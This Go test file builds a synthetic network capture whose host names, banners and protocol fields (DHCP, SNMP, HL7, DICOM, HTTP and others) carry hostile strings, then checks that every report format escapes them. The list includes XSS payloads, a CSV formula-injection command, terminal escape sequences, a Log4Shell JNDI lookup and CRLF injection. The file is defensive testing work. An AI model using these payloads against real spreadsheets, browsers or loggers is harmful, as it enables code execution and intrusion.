// SPDX-FileCopyrightText: 2026 The Myelin authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// checkPlain looks for what acts in a terminal, or turns text around.
func checkPlain(t *testing.T, name, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s: not UTF-8", name)
	}
	for i, r := range s {
		if r != '\n' && !unicode.IsPrint(r) {
			t.Errorf("%s: %U at %d: %q", name, r, i, s[max(0, i-40):min(len(s), i+40)])
			return
		}
	}
}

// checkFormat reads an answer as who it is made for would, and looks for text
// that is more than text there.
func checkFormat(t *testing.T, format, out string) {
	t.Helper()
	if format != "json" && format != "sarif" { // they are for programs, and escape what is not printable in ASCII
		checkPlain(t, format, strings.ReplaceAll(out, "\r\n", "\n"))
	}
	switch format {
	case "json", "sarif":
		if !utf8.ValidString(out) || strings.ContainsFunc(out, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
			t.Errorf("%s: control characters", format)
		}
		if !json.Valid([]byte(out)) {
			t.Errorf("%s: no JSON", format)
		}
	case "csv":
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Error(err)
		}
		for _, row := range rows {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("csv: %s is a formula: %q", rows[0][i], cell)
				}
			}
		}
	case "html":
		checkHTML(t, out)
	}
}

// elements are all that a page of ours is made of.
var elements = func() map[string]bool {
	m := map[string]bool{}
	for _, e := range strings.Fields(`html head meta title style body header main footer nav section article h1 h2 h3 p a ul ol li dl dt dd table caption tfoot bdi h4
		colgroup col thead tbody tr th td div span small strong em b i br code details summary figure figcaption abbr time label
		svg g path line polyline polygon circle rect text tspan desc defs marker symbol use pattern`) {
		m[e] = true
	}
	return m
}()

// checkHTML reads a page as a browser does.
func checkHTML(t *testing.T, page string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("html: a comment: %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !elements[n.Data] {
			t.Errorf("html: an element %q", n.Data)
		}
		for _, a := range n.Attr {
			link := a.Key == "href" || a.Key == "src"
			if strings.HasPrefix(a.Key, "on") || link && !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "https://") {
				t.Errorf("html: <%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
	}
}

// hostile is what a name should not be.
var hostile = []string{
	"\x1b]0;owned\x07\x1b[2J\x1b[31mred", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style></svg><svg onload=alert(1)>",
	"=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "line\r\nfeed,\"quoted\",;=1", "a\u202eb\u2066c\u200fd", "\u0085\u2028\u2029", strings.Repeat("long ", 60),
	"\xff\xfe\xc3\x28", "[a](javascript:alert(1)) `x` | **b** | <!-- -->", "%0d%0aX: y", "${jndi:ldap://203.0.113.9/a}", "{{.}} %s %n", "\x00nul\x00", "]]>--><!--",
}

// tlv is a value in BER.
func tlv(tag byte, content ...[]byte) []byte {
	var b []byte
	for _, c := range content {
		b = append(b, c...)
	}
	return append([]byte{tag, 0x82, byte(len(b) >> 8), byte(len(b))}, b...)
}

// hostileCapture is a capture in which every name that is looked at is one of hostile.
func hostileCapture(t *testing.T) string {
	f := newFlood(t, "names.pcap")
	for i, s := range hostile {
		b, n := []byte(s), i*16
		short := b[:min(len(b), 60)]

		dhcp := append([]byte{1, 1, 6, 0, 1, 2, 3, byte(i)}, make([]byte, 20)...) // RFC 2131 section 2
		dhcp = append(append(dhcp, 2, 0, 10, 64, 0, byte(n)), make([]byte, 10+192)...)
		dhcp = append(dhcp, 0x63, 0x82, 0x53, 0x63, 53, 1, 3)
		for _, option := range []byte{12, 60, 81} {
			dhcp = append(append(dhcp, option, byte(len(short))), short...)
		}
		f.udp(host(n), [4]byte{255, 255, 255, 255}, 68, 67, append(dhcp, 255))

		dns := append([]byte{0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 0, byte(len(short))}, short...)
		f.udp(host(n+1), [4]byte{224, 0, 0, 251}, 5353, 5353, append(dns, append([]byte("\x05local\x00\x00\x01\x00\x01\x00\x00\x00\x78\x00\x04"), 10, 64, 0, byte(n+1))...))

		var vars []byte
		for _, last := range []byte{1, 5} { // RFC 3418: sysDescr, sysName
			vars = append(vars, tlv(0x30, tlv(6, []byte{0x2b, 6, 1, 2, 1, 1, last, 0}), tlv(4, b))...)
		}
		f.udp(host(n+2), host(n+3), 161, 40000, tlv(0x30, []byte{2, 1, 1}, tlv(4, []byte("public")),
			tlv(0xa2, []byte{2, 1, 1, 2, 1, 0, 2, 1, 0}, tlv(0x30, vars))))

		f.udp(host(n+4), [4]byte{239, 255, 255, 250}, 1900, 1900, []byte("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: urn:schemas-upnp-org:device:Printer:1\r\nNTS: ssdp:alive\r\nSERVER: "+s+"/1 UPnP/1.0 "+s+"/1\r\n\r\n"))
		f.udp(host(n+5), host(n+6), 514, 514, []byte("<34>1 2026-03-03T07:00:00Z "+s+" app - - - "+s))

		f.stream(n+7, false, 80, []byte("GET /"+s+" HTTP/1.1\r\nHost: "+s+"\r\nUser-Agent: "+s+"\r\nAuthorization: Basic dTpw\r\n\r\n"))
		f.stream(n+7, true, 80, []byte("HTTP/1.1 200 OK\r\nServer: "+s+"\r\nContent-Length: 0\r\n\r\n"))
		f.stream(n+8, false, 2575, []byte("\x0bMSH|^~\\&|"+s+"^00160A0000000001^EUI-64|"+s+"|"+s+"|"+s+"|20260303070000||ORU^R01^ORU_R01|"+s+"|P|2.6|||||||||IHE_PCD_001^IHE PCD^1.3.6.1.4.1.19376.1.6.1.1.1^ISO\r"+
			"PID|||"+s+"^^^ADA^MR||"+s+"\rOBR|1|"+s+"|"+s+"|69985^MDC_DEV_PUMP_INFUS_MDS^MDC\rOBX|1|ST|531969^MDC_ID_MODEL_MANUFACTURER^MDC|1.0.0.1|"+s+"||||||F\rOBX|2|ST|531970^MDC_ID_MODEL_NUMBER^MDC|1.0.0.2|"+s+"||||||F|||||||"+s+"^^00160A0000000001^EUI-64\r\x1c\r"))
		f.stream(n+9, true, 21, []byte("220 "+s+"\r\n"))
		f.stream(n+9, false, 21, []byte("USER "+s+"\r\nPASS "+s+"\r\n"))
		f.stream(n+10, true, 22, []byte("SSH-2.0-"+s+" "+s+"\r\n"))
		f.stream(n+11, false, 104, dicomNames(b))
		f.stream(n+12, false, 23, []byte("\xff\xfd\x18"+s+"\r\n"+s+"\r\n"))
		f.stream(n+12, true, 23, []byte(s+"\r\nlogin: "))
	}
	return f.done()
}

// dicomNames is an association, and an object that it stores (PS3.8 section 9.3, PS3.7 section 9.3.1).
func dicomNames(name []byte) []byte {
	title := append(append([]byte{}, name[:min(len(name), 16)]...), "                "...)[:16]
	item := func(typ byte, content ...[]byte) []byte {
		b := tlv(typ, content...)
		b[1] = 0
		return b
	}
	body := append([]byte{0, 1, 0, 0}, append(append(title, title...), make([]byte, 32)...)...)
	body = append(body, item(0x10, []byte("1.2.840.10008.3.1.1.1"))...)
	body = append(body, item(0x20, []byte{1, 0, 0, 0}, item(0x30, []byte("1.2.840.10008.5.1.4.1.1.2")), item(0x40, []byte("1.2.840.10008.1.2")))...)
	body = append(body, item(0x50, item(0x51, []byte{0, 0, 64, 0}), item(0x52, []byte("1.2.3")), item(0x55, title))...)
	out := append([]byte{1, 0, 0, 0, byte(len(body) >> 8), byte(len(body))}, body...)
	element := func(group, number uint16, v []byte) []byte {
		if len(v)%2 == 1 {
			v = append(v[:len(v):len(v)], ' ')
		}
		return append([]byte{byte(group), byte(group >> 8), byte(number), byte(number >> 8), byte(len(v)), byte(len(v) >> 8), 0, 0}, v...)
	}
	pdv := func(control byte, elements ...[]byte) {
		var b []byte
		for _, e := range elements {
			b = append(b, e...)
		}
		n := len(b) + 2
		out = append(out, 4, 0, 0, 0, byte((n+4)>>8), byte(n+4), 0, 0, byte(n>>8), byte(n), 1, control)
		out = append(out, b...)
	}
	class, instance := []byte("1.2.840.10008.5.1.4.1.1.2\x00"), []byte("1.2.3.40")
	pdv(3, element(0, 2, class), element(0, 0x100, []byte{1, 0}), element(0, 0x110, []byte{1, 0}), element(0, 0x700, []byte{0, 0}), element(0, 0x800, []byte{0, 0}), element(0, 0x1000, instance))
	pdv(2, element(8, 0x16, class), element(8, 0x18, instance), element(8, 0x60, []byte("CT")), element(8, 0x70, name), element(8, 0x1010, name), element(8, 0x1090, name),
		element(0x10, 0x10, name), element(0x10, 0x20, name), element(0x18, 0x1000, name), element(0x18, 0x1020, name))
	return out
}

// TestHostileNames has names that act in a terminal, a browser, a spreadsheet or
// a log wherever a name may stand, and reads the answer in every format.
func TestHostileNames(t *testing.T) {
	file := hostileCapture(t)
	answer, _, _ := assessed(t, nil, file)
	for _, shown := range []string{"script", "cmd|", "@SUM", "long long"} {
		if !strings.Contains(answer, shown) {
			t.Errorf("%q is nowhere: the test shows nothing", shown)
		}
	}
	for _, f := range formats {
		var out, errs strings.Builder
		if code := run(t.Context(), []string{"assess", "--format", f.name, file}, nil, &out, &errs); code != exitDone {
			t.Fatalf("%s: exit %d, %s", f.name, code, &errs)
		}
		checkPlain(t, "standard error", errs.String())
		checkFormat(t, f.name, out.String())
	}
}
